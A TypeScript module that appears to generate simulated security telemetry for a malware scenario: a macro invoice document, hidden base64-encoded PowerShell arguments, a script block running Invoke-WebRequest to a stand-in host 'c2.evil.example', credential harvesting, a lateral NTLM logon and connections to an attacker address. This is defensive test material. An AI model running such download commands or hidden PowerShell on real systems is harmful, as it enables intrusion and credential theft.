import { connectionData } from '../../hive/world/event-data/network.js';
import { processInData } from '../../hive/world/processes.js';
import { programAt } from '../../hive/world/programs.js';
import type { Setting } from '../script.js';

export const system32 = 'C:\\Windows\\System32\\';
export const powershell = `${system32}WindowsPowerShell\\v1.0\\powershell.exe`;
export const document = 'C:\\Users\\Public\\Downloads\\invoice_0815.docm';
/** The attacker's server. */
export const c2 = '203.0.113.66';
/** Arguments of a PowerShell whose command is hidden in base64. */
export const encoded = [
  '-NoProfile',
  '-WindowStyle',
  'Hidden',
  '-enc',
  'UwBpAG0AdQBsAGEAdABlAGQAIABkAG8AdwBuAGwAbwBhAGQA',
];

/** Data of an ATT&CK event (type 65): technique, tactic numbers, relevance. */
export function technique(id: string, tactics: number[], relevance: number) {
  return () => ({ version: 1, technique: id, relevance, tactics, customData: { rule: 'Example rule' } });
}

/** Data of a macro document (62). */
export function openedDocument({ at }: Setting) {
  const { sha256, sha1, md5, size } = programAt(document);
  return {
    version: 1,
    path: document.toLowerCase(),
    sha256,
    sha1,
    md5,
    size,
    creationTime: at,
    accessTime: at,
    lastWriteTime: at,
  };
}

/** Data of a logged script block (74). */
export function scriptBlock() {
  return {
    version: 1,
    scriptBlockText: "Invoke-WebRequest 'http://c2.evil.example/stage2' # simulated",
    scriptBlockSize: 61,
    scriptBlockId: '00000000-0000-4000-a000-000000000001',
    scriptBlockEntropy: 4.6,
    path: '',
  };
}

/** Data of a network logon from the first machine (39). */
export function remoteLogon({ first }: Setting) {
  return {
    etwLogonType: '3',
    etwIpAddress: first.localAddr,
    etwIpPort: '50123',
    etwTargetUserName: 'backup-admin',
    etwTargetDomainName: 'EXAMPLE',
    etwWorkstationName: first.name,
    etwAuthenticationPackageName: 'NTLM',
    etwEventDescription: 'An account was successfully logged on.',
    etwEventId: 4624,
    etwTask: 12_544,
    version: 2,
  };
}

/** Data of harvested credentials (24), read by that actor. */
export function dumpOf(actor: string) {
  return ({ actors }: Setting) => {
    const process = actors.get(actor);
    return process ? { accessorProcess: processInData(process.acting) } : {};
  };
}

/** Data of a connection to the attacker (8). */
export const toC2 = (port: number) => (setting: Setting) => connectionData(setting.endpoint.localAddr, c2, port, true);
/** Data of a connection that the first machine opened (8). */
export const fromFirst = ({ endpoint, first }: Setting) =>
  connectionData(endpoint.localAddr, first.localAddr, 50_124, false);
